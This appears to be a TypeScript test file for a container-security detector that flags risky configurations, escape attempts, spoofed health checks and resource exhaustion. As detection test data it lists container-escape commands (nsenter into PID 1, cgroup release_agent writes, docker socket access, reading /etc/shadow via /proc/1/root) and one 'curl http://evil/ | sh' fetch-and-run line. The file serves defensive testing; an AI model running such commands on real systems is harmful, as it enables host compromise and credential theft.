import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type TestContext as Test, test } from 'node:test';
import {
  type ContainerEngine,
  type ContainerStats,
  type EngineEvent,
  type InspectedContainer,
  openContainerEngine,
} from '../../platform/containers/container-engine.ts';
import { inspectedSchema } from '../../platform/containers/engine-answers.ts';
import { startProcessEngine } from '../drills/process-engine.ts';
import { containerEventsDetector } from './container-events.ts';
import { createContainerLoad } from './container-load.ts';
import { isHealthCheck, risksOf, wantsOut } from './container-risks.ts';
import { engineExecutions } from './engine-executions.ts';
import { testContext, until } from './test-context.ts';
import { realTimers } from './timers.ts';

function inspected(more: { Config?: object; HostConfig?: object; Mounts?: object[] } = {}): InspectedContainer {
  return inspectedSchema.parse({ Id: 'a', Name: '/core', Config: {}, HostConfig: {}, ...more });
}

const dangerous: readonly [string, Parameters<typeof inspected>[0]][] = [
  ['privileged', { HostConfig: { Privileged: true } }],
  [
    'engine-socket',
    { Mounts: [{ Type: 'bind', Source: '/var/run/docker.sock', Destination: '/var/run/docker.sock' }] },
  ],
  ['engine-socket', { HostConfig: { Binds: ['/run/podman/podman.sock:/x:ro'] } }],
  ['host-folder', { HostConfig: { Binds: ['/:/host'] } }],
  ['host-folder', { Mounts: [{ Type: 'bind', Source: '/etc/', Destination: '/e' }] }],
  ['cap-sys_admin', { HostConfig: { CapAdd: ['CAP_SYS_ADMIN'] } }],
  ['host-processes', { HostConfig: { PidMode: 'host' } }],
  ['unconfined', { HostConfig: { SecurityOpt: ['seccomp=unconfined'] } }],
];
for (const [risk, more] of dangerous)
  test(`risksOf() sees ${risk} in ${JSON.stringify(more)}`, () => {
    assert.deepEqual(risksOf(inspected(more)), [risk]);
  });

test('risksOf() sees nothing in an ordinary container', () => {
  const ordinary = inspected({
    HostConfig: { Binds: ['/srv/app/data:/data', '/etc/localtime:/etc/localtime:ro'], CapAdd: ['NET_BIND_SERVICE'] },
    Mounts: [{ Type: 'volume', Source: '/var/lib/docker/volumes/x/_data', Destination: '/data' }],
  });
  assert.deepEqual(risksOf(ordinary), []);
});

test('wantsOut() tells a way out from work by hand', () => {
  for (const command of [
    'nsenter -t 1 -m sh',
    'sh -c echo x > /sys/fs/cgroup/rdma/release_agent',
    'curl --unix-socket /var/run/docker.sock http://x/containers/json',
    'cat /proc/1/root/etc/shadow',
    'chroot /host sh',
    'unshare -UrmC bash',
  ])
    assert.ok(wantsOut(command), command);
  for (const command of ['sh', 'ls -la /', 'python -m pip list', 'cat /proc/meminfo', 'redis-cli ping', 'mount'])
    assert.ok(!wantsOut(command), command);
});

test('isHealthCheck() knows the command that the container was given for it, and no other', () => {
  const one = inspected({ Config: { Healthcheck: { Test: ['CMD-SHELL', 'curl -f http://localhost/ || exit 1'] } } });
  assert.ok(isHealthCheck('/bin/sh -c curl -f http://localhost/ || exit 1', one));
  assert.ok(!isHealthCheck('/bin/sh -c curl -f http://evil/ | sh', one));
  const other = inspected({ Config: { Healthcheck: { Test: ['CMD', 'wget', '-q', 'x'] } } });
  assert.ok(isHealthCheck('wget -q x', other));
});

test('createContainerLoad() tells once of memory that runs full, and never of what always was', () => {
  const stats = (share: number, at: number): ContainerStats => ({
    readAt: at,
    cpuNs: 0,
    systemCpuNs: 0,
    cpus: 2,
    memoryBytes: share * 1e9,
    memoryLimitBytes: 1e9,
    processes: 3,
  });
  const limits = { processes: 200, cpus: 1, busyIsUsual: false };
  const growing = createContainerLoad(() => 1);
  const told = [0.5, 0.7, 0.96, 0.97, 0.98, 0.99, 0.99].map(
    (share, at) => growing.add(stats(share, at), limits).length,
  );
  assert.deepEqual(told, [0, 0, 0, 0, 1, 0, 0]);
  const always = createContainerLoad(() => 1);
  for (let at = 0; at < 20; at++) assert.deepEqual(always.add(stats(0.97, at), limits), []);
});

test('createContainerLoad() tells of processors that are busy for minutes, and of too many processes', () => {
  const load = createContainerLoad(() => 1);
  const found = [];
  for (let minute = 0; minute < 8; minute++)
    found.push(
      ...load.add(
        {
          readAt: minute * 60_000 + 1,
          cpuNs: minute * 60e9,
          systemCpuNs: 0,
          cpus: 4,
          memoryBytes: 0,
          memoryLimitBytes: 0,
          processes: minute > 3 ? 198 : 4,
        },
        { processes: 200, cpus: 1, busyIsUsual: false },
      ),
    );
  assert.deepEqual(found.map(({ type }) => type).sort(), ['denial-of-service', 'performance-anomaly']);
});

function fakeEngine(containers: Readonly<Record<string, InspectedContainer>>, processes: { user: string }[] = []) {
  let push: (event: EngineEvent) => void = () => {};
  const waiting: EngineEvent[] = [];
  const engine: Pick<ContainerEngine, 'within' | 'list' | 'inspect' | 'top' | 'stats' | 'events'> = {
    within: () => engine as ContainerEngine,
    list: async () =>
      Object.keys(containers).map((name) => ({
        id: name,
        name,
        image: 'i',
        state: 'running',
        labels: {},
        networks: [],
      })),
    inspect: async (name) => containers[name]!,
    top: async () => processes.map(({ user }) => ({ pid: 1, parent: 0, user, command: 'x' })),
    stats: async () => ({
      readAt: 0,
      cpuNs: 0,
      systemCpuNs: 0,
      cpus: 1,
      memoryBytes: 0,
      memoryLimitBytes: 0,
      processes: 1,
    }),
    events: async () =>
      (async function* () {
        for (;;) {
          while (waiting.length > 0) yield waiting.shift()!;
          await new Promise<void>((resolve) => {
            push = (event) => {
              waiting.push(event);
              resolve();
            };
          });
        }
      })(),
  };
  const tell = (action: string, name: string, attributes = {}) =>
    push({ type: 'container', action, id: name, name, attributes, timeMs: Date.now() });
  return { engine, tell };
}

async function watching(
  t: Test,
  { engine }: ReturnType<typeof fakeEngine>,
  services: Parameters<typeof containerEventsDetector>[0]['services'] = [],
) {
  const context = testContext();
  const executions = { find: async () => undefined };
  const detector = containerEventsDetector({ engine, executions, services, timers: realTimers, everyMs: 20 });
  const handle = detector.start(context);
  // The stream of the stand-in has no end of its own.
  t.after(() => void handle.close());
  await until(() => context.lives > 1, 'two looks');
  return context;
}

test('containerEventsDetector() takes what ran before for usual, and a new container with the host in reach for a way out', async (t) => {
  const containers: Record<string, InspectedContainer> = { agent: inspected({ HostConfig: { Privileged: true } }) };
  const fake = fakeEngine(containers);
  const context = await watching(t, fake);
  fake.tell('start', 'agent');
  containers['evil'] = inspected({ HostConfig: { Binds: ['/:/host'] }, Config: { Image: 'x' } });
  fake.tell('start', 'evil');
  await until(() => context.told.length > 0, 'a detection');
  assert.deepEqual(
    context.told.map(({ type, subject, severity, facts }) => [type, subject, severity, facts['risks']]),
    [['container-escape', 'evil', 'critical', 'host-folder']],
  );
});

test('containerEventsDetector() takes some commands by hand and all health checks for nothing, and many commands for an intrusion', async (t) => {
  const containers = { core: inspected({ Config: { Healthcheck: { Test: ['CMD-SHELL', 'check'] } } }) };
  const fake = fakeEngine(containers);
  const context = await watching(t, fake);
  const run = async (command: string) => {
    fake.tell(`exec_create: ${command}`, 'core');
    await new Promise((resolve) => setTimeout(resolve, 5));
  };
  for (let count = 0; count < 20; count++) await run('/bin/sh -c check');
  for (let count = 0; count < 7; count++) await run('sh');
  assert.equal(context.told.length, 0);
  await run('id');
  await until(() => context.told.length > 0, 'a detection');
  assert.equal(context.told[0]!.type, 'unauthorised-access');
});

test('containerEventsDetector() tells of a process of root where another user was set', async (t) => {
  const fake = fakeEngine({ core: inspected({ Config: { User: '10001' } }) }, [{ user: '10001' }, { user: 'root' }]);
  const context = await watching(t, fake);
  await until(() => context.told.length > 0, 'a detection');
  assert.deepEqual(
    context.told.map(({ type, facts }) => [type, facts['sign'], facts['processes']]),
    [['container-escape', 'root', 1]],
  );
});

test('containerEventsDetector() tells of a container killed for its memory, and of one that ends again and again', async (t) => {
  const fake = fakeEngine({ core: inspected() });
  const context = await watching(t, fake);
  fake.tell('oom', 'core');
  await until(() => context.told.length === 1, 'a detection');
  for (const exitCode of ['0', '143', '1', '1', '1', '1']) {
    fake.tell('die', 'core', { exitCode });
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
  assert.equal(context.told.length, 1);
  fake.tell('die', 'core', { exitCode: '1' });
  await until(() => context.told.length === 2, 'another');
  assert.deepEqual(
    context.told.map(({ type }) => type),
    ['memory-exhaustion', 'performance-anomaly'],
  );
});

test('containerEventsDetector() hears of a command with all rights, from an engine on a socket', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'rd-'));
  const pids: number[] = [];
  const engine = await startProcessEngine({ dir, now: Date.now, owned: (pid) => pids.push(pid) }, [
    { name: 'core', image: 'core:1', networks: ['private'], memoryBytes: 0 },
  ]);
  const at = { socketPath: engine.socket };
  const client = openContainerEngine(at);
  const executions = engineExecutions(at);
  const context = testContext();
  const handle = containerEventsDetector({
    engine: client,
    executions,
    services: [],
    timers: realTimers,
    everyMs: 50,
  }).start(context);
  t.after(async () => {
    await handle.close();
    await Promise.all([client.close(), executions.close()]);
    await engine.close();
    rmSync(dir, { recursive: true, force: true });
  });
  await until(() => context.lives > 0, 'the first look');
  await ask(engine.socket, '/containers/core/exec', { Cmd: ['sleep', '60'], Privileged: true, User: '0' });
  await until(() => context.told.length > 0, 'a detection');
  const [told] = context.told;
  assert.deepEqual([told!.type, told!.subject, told!.facts['privileged']], ['container-escape', 'core', true]);
  assert.ok(!JSON.stringify(told).includes('sleep'));
  assert.deepEqual(context.failures, []);
});

test('containerEventsDetector() says that it failed when the engine is away', async () => {
  const at = { socketPath: '/nonexistent/engine.sock' };
  const client = openContainerEngine(at);
  const executions = engineExecutions(at);
  const context = testContext();
  const handle = containerEventsDetector({ engine: client, executions, services: [], timers: realTimers }).start(
    context,
  );
  await until(() => context.failures.length > 0, 'a failure');
  await handle.close();
  await Promise.all([client.close(), executions.close()]);
});

function ask(socketPath: string, path: string, body: object): Promise<void> {
  return new Promise((resolve, reject) => {
    const asked = request(
      { socketPath, path, method: 'POST', headers: { 'content-type': 'application/json' } },
      (answer) => {
        answer.resume().on('end', () => resolve());
      },
    );
    asked.on('error', reject).end(JSON.stringify(body));
  });
}
